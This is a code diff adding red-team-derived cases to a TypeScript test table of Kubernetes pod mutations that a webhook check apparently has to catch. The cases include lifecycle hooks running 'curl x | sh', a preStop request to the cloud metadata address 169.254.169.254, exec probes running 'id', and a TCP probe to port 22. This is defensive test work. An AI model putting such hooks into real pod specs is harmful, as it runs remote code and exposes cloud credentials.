@@ -94,6 +94,29 @@ const CHANGES: Change[] = [
     'spec.containers',
     (p) => p.spec!.containers[0]!.volumeMounts!.push({ name: 'workspace', mountPath: '/etc' }),
   ],
+  // Red team 10, finding 2: code a webhook makes a decided container run, beside its command.
+  [
+    'postStart exec',
+    'spec.containers',
+    (p) => (p.spec!.containers[0]!.lifecycle = { postStart: { exec: { command: ['sh', '-c', 'curl x | sh'] } } }),
+  ],
+  [
+    'preStop exec',
+    'spec.containers',
+    (p) => (p.spec!.containers[0]!.lifecycle = { preStop: { exec: { command: ['sh', '-c', 'id'] } } }),
+  ],
+  [
+    'preStop HTTP GET to a host',
+    'spec.containers',
+    (p) => (p.spec!.containers[0]!.lifecycle = { preStop: { httpGet: { host: '169.254.169.254', port: 80 } } }),
+  ],
+  ['liveness exec', 'spec.containers', (p) => (p.spec!.containers[0]!.livenessProbe = { exec: { command: ['id'] } })],
+  ['readiness exec', 'spec.containers', (p) => (p.spec!.containers[0]!.readinessProbe = { exec: { command: ['id'] } })],
+  [
+    'startup TCP to a host',
+    'spec.containers',
+    (p) => (p.spec!.containers[0]!.startupProbe = { tcpSocket: { host: '10.0.0.1', port: 22 } }),
+  ],
 ];
 
 /**
